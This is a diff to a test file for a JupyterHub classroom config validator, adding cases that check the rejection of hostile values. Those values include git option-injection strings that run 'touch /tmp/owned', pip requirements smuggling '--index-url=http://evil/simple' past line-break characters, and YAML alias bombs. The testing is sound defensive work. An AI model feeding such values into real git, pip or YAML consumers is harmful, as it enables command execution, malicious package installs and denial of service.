@@ -45,6 +45,9 @@ EMAIL = "an email address such as staff@example.edu"
 MEMORY = ("a memory size JupyterHub reads: a number above 0 with K, M, G or T (powers of 1024) such "
           "as 512M or 2G, or a whole number of bytes")
 KUBERNETES_UNITS = "(JupyterHub's K, M, G, T are Kubernetes' Ki, Mi, Gi, Ti)"
+DATA_SOURCE = ("gs://BUCKET/PATH, a git URL, or a local path (relative to the project directory, not "
+               "starting with '-')")
+PIP = "a pip requirement such as 'altair>=5' (a name and version specifier, no options)"
 
 
 def dummy_refused(line, public):
@@ -82,9 +85,11 @@ CASES = [
         "config/classroom.yaml:2: buckets.charts: found 's3://charts' (text); expected a bucket URL: "
         "gs://BUCKET-NAME, or file://PATH for a bucket on disk (local profile)"]),
     ("culling-timeout-word", {"classroom.yaml": "culling:\n  timeout: soon\n"}, [
-        "config/classroom.yaml:2: culling.timeout: found 'soon' (text); expected an integer >= 60"]),
+        "config/classroom.yaml:2: culling.timeout: found 'soon' (text); expected an integer >= 60 and "
+        "<= 2147483647"]),
     ("culling-timeout-small", {"classroom.yaml": "culling:\n  timeout: 5\n"}, [
-        "config/classroom.yaml:2: culling.timeout: found 5 (an integer); expected an integer >= 60"]),
+        "config/classroom.yaml:2: culling.timeout: found 5 (an integer); expected an integer >= 60 and "
+        "<= 2147483647"]),
     ("culling-enabled-maybe", {"classroom.yaml": "culling:\n  enabled: maybe\n"}, [
         "config/classroom.yaml:2: culling.enabled: found 'maybe' (text); expected true or false"]),
     ("section-is-list", {"classroom.yaml": "hub: [a, b]\n"}, [
@@ -121,10 +126,10 @@ CASES = [
         "resources.memory_limit (3221225471)"]),
     # JupyterHub's cpu_limit/cpu_guarantee are Float traits: no Kubernetes millicores
     ("cpu-millicores", {"classroom.yaml": "resources:\n  cpu_guarantee: 250m\n  cpu_limit: 2000m\n"}, [
-        "config/classroom.yaml:2: resources.cpu_guarantee: found '250m' (text); expected a number >= 0; "
-        "write 0.25 instead (JupyterHub counts CPUs, not Kubernetes millicores)",
-        "config/classroom.yaml:3: resources.cpu_limit: found '2000m' (text); expected a number >= 0; "
-        "write 2 instead (JupyterHub counts CPUs, not Kubernetes millicores)"]),
+        "config/classroom.yaml:2: resources.cpu_guarantee: found '250m' (text); expected a number >= 0 and "
+        "<= 4096; write 0.25 instead (JupyterHub counts CPUs, not Kubernetes millicores)",
+        "config/classroom.yaml:3: resources.cpu_limit: found '2000m' (text); expected a number >= 0 and "
+        "<= 4096; write 2 instead (JupyterHub counts CPUs, not Kubernetes millicores)"]),
     ("autohttps-needs-email-and-domain", {"classroom.yaml": "hub:\n  tls:\n    mode: autohttps\n"}, [
         dummy_refused(None, "hub.tls.mode: autohttps"),
         f"config/classroom.yaml:1: hub.domain: found an empty string; expected {HOSTNAME} "
@@ -258,7 +263,7 @@ CASES = [
         "config/courses.yaml: found an empty file; expected a mapping with the keys: courses"]),
     ("dataset-source-missing", {"data.yaml": "datasets:\n  - name: flights\n"}, [
         "config/data.yaml:2: datasets[0].source: found nothing (the key is missing); expected "
-        "gs://BUCKET/PATH, a git URL, or a local path (relative to the project directory)"]),
+        f"{DATA_SOURCE}"]),
     ("dataset-path-absent", {"data.yaml": "datasets:\n  - name: flights\n    source: data/nowhere\n"}, [
         "config/data.yaml:3: datasets[0].source: found 'data/nowhere' (text), no such file or "
         "directory; expected an existing path (relative paths start at {root})"]),
@@ -276,6 +281,108 @@ CASES = [
         "config/data.yaml: is not UTF-8 text (byte 18)"]),
     ("file-missing", {"data.yaml": None}, [
         "config/data.yaml: found no such file; expected the YAML file (start from the project's config/)"]),
+    # Hostile values that once passed and did harm (issue 10): option injection into git and pip,
+    # a line break that splits pip's requirements file, values YAML 1.1 silently retyped.
+    ("dataset-source-option-injection", {"data.yaml": "datasets:\n  - name: x\n"
+                                                     "    source: '--upload-pack=x@y;touch /tmp/owned;'\n"}, [
+        f"config/data.yaml:3: datasets[0].source: found '--upload-pack=x@y;touch /tmp/owned;' (text); "
+        f"expected {DATA_SOURCE}"]),
+    ("dataset-source-git-ext-transport", {"data.yaml": "datasets:\n  - name: x\n"
+                                                      "    source: 'ext::sh -c touch% /tmp/owned'\n"}, [
+        f"config/data.yaml:3: datasets[0].source: found 'ext::sh -c touch% /tmp/owned' (text); "
+        f"expected {DATA_SOURCE}"]),
+    ("course-repo-option", {"courses.yaml": COURSE.replace("https://github.com/example/intro.git",
+                                                           "-oProxyCommand=x@h:p")}, [
+        f"config/courses.yaml:3: courses[0].repo: found '-oProxyCommand=x@h:p' (text); expected {GIT_URL}"]),
+    ("course-package-carriage-return", {"courses.yaml": COURSE + "    packages: [\"altair; python_version>'0'"
+                                                                 "\\r--index-url=http://evil/simple\"]\n"}, [
+        "config/courses.yaml:5: courses[0].packages[0]: found \"altair; python_version>'0'\\r--index-url="
+        f"http://evil/simple\" (text); expected {PIP}; it contains the non-printable character U+000D"]),
+    ("course-package-next-line", {"courses.yaml": COURSE + "    packages: [\"altair\\x85--index-url=http://e/s\"]\n"}, [
+        "config/courses.yaml:5: courses[0].packages[0]: found 'altair\\x85--index-url=http://e/s' (text); "
+        f"expected {PIP}; it contains the non-printable character U+0085"]),
+    ("course-package-line-separator", {"courses.yaml": COURSE + "    packages: [\"altair\\u2028-i http://e/s\"]\n"}, [
+        "config/courses.yaml:5: courses[0].packages[0]: found 'altair\\u2028-i http://e/s' (text); "
+        f"expected {PIP}; it contains the non-printable character U+2028"]),
+    # pip cuts a requirements line at a word starting with '-', even inside a marker's quotes
+    ("course-package-option-in-marker", {"courses.yaml": COURSE + "    packages: ['altair; python_version > "
+                                                                  "\"0 --index-url=http://e/s\"']\n"}, [
+        "config/courses.yaml:5: courses[0].packages[0]: found 'altair; python_version > \"0 --index-url="
+        f"http://e/s\"' (text); expected {PIP}"]),
+    ("course-package-url", {"courses.yaml": COURSE + "    packages: ['altair @ https://e.example/a.whl']\n"}, [
+        "config/courses.yaml:5: courses[0].packages[0]: found 'altair @ https://e.example/a.whl' (text); "
+        f"expected {PIP}"]),
+    ("yaml-retyped-strings", {"courses.yaml": COURSE.replace("[alice]", "[on, no, 0123]") + "    ref: 1.10\n"}, [
+        "config/courses.yaml:4: courses[0].instructors[0]: found on (unquoted, so YAML 1.1 reads the boolean "
+        f"true); expected {LOGIN}: quote it to keep it as written, 'on'",
+        "config/courses.yaml:4: courses[0].instructors[1]: found no (unquoted, so YAML 1.1 reads the boolean "
+        f"false); expected {LOGIN}: quote it to keep it as written, 'no'",
+        "config/courses.yaml:4: courses[0].instructors[2]: found 0123 (unquoted, so YAML 1.1 reads the number "
+        f"83); expected {LOGIN}: quote it to keep it as written, '0123'",
+        "config/courses.yaml:5: courses[0].ref: found 1.10 (unquoted, so YAML 1.1 reads the number 1.1); "
+        "expected a git branch, tag or commit such as main or v1.2: quote it to keep it as written, '1.10'"]),
+    ("yaml-retyped-numbers", {"classroom.yaml": "auth:\n  ldap:\n    port: yes\nculling:\n  timeout: 1:00:00\n"
+                                                "  every: 0x20\nresources:\n  cpu_limit: .inf\n"}, [
+        "config/classroom.yaml:3: auth.ldap.port: found yes (unquoted, so YAML 1.1 reads the boolean true); "
+        "expected an integer >= 0 and <= 65535",
+        "config/classroom.yaml:5: culling.timeout: found 1:00:00 (unquoted, so YAML 1.1 reads the number 3600); "
+        "expected an integer >= 60 and <= 2147483647 written in decimal digits",
+        "config/classroom.yaml:6: culling.every: found 0x20 (unquoted, so YAML 1.1 reads the number 32); "
+        "expected an integer >= 30 and <= 2147483647 written in decimal digits",
+        "config/classroom.yaml:8: resources.cpu_limit: found .inf (YAML reads the number inf); expected a "
+        "number >= 0 and <= 4096, a finite number"]),
+    ("yaml-invalid-date", {"classroom.yaml": "release:\n  name: 2026-13-01\n"}, [
+        "config/classroom.yaml:2: release.name: found 2026-13-01 (unquoted: YAML 1.1 reads a date, and cannot: "
+        f"month must be in 1..12); expected {DNS_LABEL}: quote it to keep it as written, '2026-13-01'"]),
+    ("yaml-number-too-long", {"classroom.yaml": "culling:\n  timeout: " + "9" * 5000 + "\n"}, [
+        f"config/classroom.yaml:2: culling.timeout: found '{'9' * 57}...' (unquoted: YAML 1.1 reads a number, "
+        "and cannot: more than 64 characters); expected an integer >= 60 and <= 2147483647"]),
+    ("command-line-values", {"classroom.yaml": "cluster:\n  kube_context: --kubeconfig=/tmp/x\n"
+                                               "  cert_manager_chart:\n    version: --devel\n"}, [
+        "config/classroom.yaml:2: cluster.kube_context: found '--kubeconfig=/tmp/x' (text); expected a kube "
+        "context name (not starting with '-')",
+        "config/classroom.yaml:4: cluster.cert_manager_chart.version: found '--devel' (text); expected a chart "
+        "version such as v1.16.2 or 1.16.2"]),
+    ("build-arg-values", {"classroom.yaml": "build:\n  args:\n    A: \"x\\ny\"\n    B: 3.10\n"}, [
+        "config/classroom.yaml:3: build.args.A: found 'x\\ny' (text); expected a single line of text (at most "
+        "1024 characters); it contains the non-printable character U+000A",
+        "config/classroom.yaml:4: build.args.B: found 3.10 (unquoted, so YAML 1.1 reads the number 3.1); "
+        "expected a single line of text (at most 1024 characters): quote it to keep it as written, '3.10'"]),
+    # paths the OS cannot take, or files a build would read forever
+    ("ca-bundle-component-too-long", {"classroom.yaml": "build:\n  ca_bundle: /etc/" + "a" * 256 + "/ca.pem\n"}, [
+        f"config/classroom.yaml:2: build.ca_bundle: found '/etc/{'a' * 52}...' (text); expected a file path (not "
+        "starting with '-', without ',' or '\"', each part at most 255 bytes, at most 4095 bytes in all)"]),
+    ("ca-bundle-directory", {"classroom.yaml": "build:\n  ca_bundle: /etc\n"}, [
+        "config/classroom.yaml:2: build.ca_bundle: found '/etc' (text), which is a directory; expected a "
+        "regular file"]),
+    ("dataset-source-device", {"data.yaml": "datasets:\n  - name: x\n    source: /dev/zero\n"}, [
+        "config/data.yaml:3: datasets[0].source: found '/dev/zero' (text), which is a character device; "
+        "expected a regular file or a directory"]),
+    ("dep-file-directory", {"classroom.yaml": "state:\n  dep_file: config\n"}, [
+        "config/classroom.yaml:2: state.dep_file: found 'config' (text), which is a directory; expected a "
+        "file path whose directory exists or can be made (relative paths start at {root})"]),
+    ("dep-file-inside-a-file", {"classroom.yaml": "state:\n  dep_file: config/courses.yaml/state.json\n"}, [
+        "config/classroom.yaml:2: state.dep_file: found 'config/courses.yaml/state.json' (text): "
+        "{root}/config/courses.yaml is a regular file, not a directory; expected a file path whose directory "
+        "exists or can be made (relative paths start at {root})"]),
+    ("yaml-billion-laughs", {"classroom.yaml": "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
+        f"{chr(98 + i)}: &{chr(98 + i)} [{','.join([f'*{chr(97 + i)}'] * 9)}]\n" for i in range(8))}, [
+        "config/classroom.yaml:4: found aliases that expand to more than 5,000 values; expected at most 5,000 "
+        "(write the values out)"]),
+    ("yaml-merge-key-bomb", {"classroom.yaml": "a0: &a0 {k0: 1, k1: 2}\n" + "".join(
+        f"a{i}: &a{i}\n  <<: [{', '.join([f'*a{i - 1}'] * 8)}]\n  k{i}: 1\n" for i in range(1, 12))}, [
+        "config/classroom.yaml:12: found aliases that expand to more than 1,000 mappings; expected at most 1,000 "
+        "in one file"]),
+    ("yaml-recursive-alias", {"classroom.yaml": "hub: &a [*a]\n"}, [
+        "config/classroom.yaml:1: hub[0]: found an alias to a value that contains it; expected an alias to a "
+        "value defined before it"]),
+    ("yaml-too-many-aliases", {"courses.yaml": "x: &x a\ny: [" + ", ".join(["*x"] * 101) + "]\n"}, [
+        "config/courses.yaml:2: found more than 100 aliases (*name); expected at most 100 (write the values out)"]),
+    ("yaml-nul-byte", {"data.yaml": b"datasets: []\n# a\x00b\n"}, [
+        "config/data.yaml:2: YAML syntax error at line 2: found the character U+0000, which YAML does not "
+        "allow in a file; expected text (in a double-quoted string, write it as an escape)"]),
+    ("yaml-file-too-large", {"data.yaml": "datasets: []\n" + "#" * 300_000 + "\n"}, [
+        "config/data.yaml: found a file of 300,014 bytes; expected a YAML file of at most 262,144 bytes"]),
 ]
 
 
